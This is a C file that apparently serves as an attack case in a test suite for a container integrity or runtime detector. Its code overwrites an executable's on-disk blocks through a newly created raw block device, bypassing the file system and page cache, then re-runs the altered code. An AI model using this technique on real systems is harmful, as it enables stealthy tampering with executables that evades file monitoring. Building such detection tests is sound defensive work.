/*
 * The block device that a volume is on is written to, below its file system: no file was opened for
 * writing. Pages that are read anew are others. Must be seen: the changed file's digest, or that the
 * container wrote to a block device.
 */
#include <linux/fiemap.h>
#include <linux/fs.h>

#include "attack.h"

ATTACK(below_the_files)
{
	struct {
		struct fiemap map;
		struct fiemap_extent extent;
	} where = {.map = {.fm_length = ~0ULL, .fm_flags = FIEMAP_FLAG_SYNC, .fm_extent_count = 1}};
	int file = opened(CODE, O_RDONLY), device;
	char *page = aligned_alloc(PAGE, PAGE);
	struct stat info;
	void *code;

	must(ioctl(file, FS_IOC_FIEMAP, &where), "FS_IOC_FIEMAP");
	must(fstat(file, &info), "fstat");
	code = map_code(PROT_READ | PROT_EXEC, MAP_PRIVATE);
	call(code);
	munmap(code, PAGE);
	must(mknod("/dev/volume", S_IFBLK | 0600, info.st_dev), "mknod");
	device = opened("/dev/volume", O_RDWR | O_DIRECT);
	must(pread(device, page, PAGE, where.extent.fe_physical), "pread");
	memcpy(page, evil_code, sizeof(evil_code));
	must(pwrite(device, page, PAGE, where.extent.fe_physical), "pwrite");
	must(posix_fadvise(file, 0, 0, POSIX_FADV_DONTNEED), "fadvise");
	truth(CODE);
	call(map_code(PROT_READ | PROT_EXEC, MAP_PRIVATE));
	return 0;
}
